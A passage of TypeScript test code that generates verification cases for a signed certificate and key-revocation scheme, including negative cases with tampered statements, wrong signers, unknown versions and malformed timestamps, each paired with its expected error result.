  await historyCase('revoked-newest', 'version 3, the newest, revoked by an admin', entries, 'revoked', { revocations: [revokeV3] });
  await historyCase('link-after-revocation', 'version 4 linked from version 3, certified after version 3 was revoked', [...entries, version('after-revocation', 4, { linkFrom: v3 })], 'untrusted_history', { revocations: [revokeV3] });
  await historyCase('link-before-revocation', 'control: version 4 linked from version 3, certified before its revocation', [...entries, version('before-revocation', 4, { linkFrom: v3, certifiedAt: '2030-03-10T00:00:00.000Z' })], 'none', { revocations: [revokeV3] });
  const legacyCert: Certificate = {
    v: 1,
    kind: 'desk',
    subjectId: deskSubjectId(deskId, 1),
    encPk: e1.encPk,
    signPk: '',
    notAfter: adminCert.notAfter,
    issuerKid: kidOf(admin.signPk),
    signature: b64(lib().crypto_sign_detached(utf8(`ashar/v1|cert|desk|${deskId}:1|${e1.encPk}||${adminCert.notAfter}`), admin.signSk)),
  };
  const legacyKeys = { deskId, version: 1, encPk: e1.encPk, signPk: '' };
  const legacyV1: DeskHistoryEntry = { ...e1, signPk: '', chain: [legacyCert, adminCert], approval: { signature: signDeskApproval(approver, legacyKeys), chain: [approverCert], approvedAt: e1.certifiedAt } };
  await historyCase('legacy-approved-ok', 'control: an approved legacy version 1 (signPk "") verifies', [legacyV1], 'none');
  await historyCase('legacy-successor-linked', 'version 2 linked from a legacy version 1: a legacy version cannot be continued', [legacyV1, e2], 'untrusted_history');

  // Revocation statements
  const staffRevocation = find(vectors, 'revocation-staff');
  const entry = staffRevocation.expected['entry'] as { statement: JsonObject; chain: JsonObject[] };
  const revArgs = { statement: entry.statement, chain: entry.chain, rootSignPk: str(staffRevocation.expected, 'rootSignPk'), now: '2030-06-01T00:00:00Z' };
  await add('revocation-ok-control', 'revocation-verify', 'control: the statement verifies', revArgs, 'none');
  await add('revocation-altered', 'revocation-verify', 'subjectId changed after signing', { ...revArgs, statement: { ...entry.statement, subjectId: 'user-other' } }, 'bad_signature');
  await add('revocation-other-admin', 'revocation-verify', 'presented with another admin’s chain', { ...revArgs, chain: toJson([approverCert]) }, 'bad_signature');
  const staffSigner = identityFrom(seedsFor('staff'));
  const staffCert = issueCertificate(admin, { kind: 'staff', subjectId: 'user-7f3a', encPk: staffSigner.encPk, signPk: staffSigner.signPk, notAfter });
  const byStaff = issueRevocation(staffSigner, { kind: 'desk', subjectId: deskSubjectId(deskId, 3), kid: kidOf(v3.encPk), revokedAt });
  await add('revocation-by-staff', 'revocation-verify', 'signed by a staff member, not an admin', { ...revArgs, statement: toJson(byStaff), chain: toJson([staffCert, adminCert]) }, 'untrusted_certificate');
  await add('revocation-v2', 'revocation-verify', 'unknown statement version', { ...revArgs, statement: { ...entry.statement, v: 2 } }, 'bad_prefix');
  await add('revocation-bad-time', 'revocation-verify', 'revokedAt with milliseconds', { ...revArgs, statement: { ...entry.statement, revokedAt: '2030-05-01T12:00:00.000Z' } }, 'bad_encoding');
}
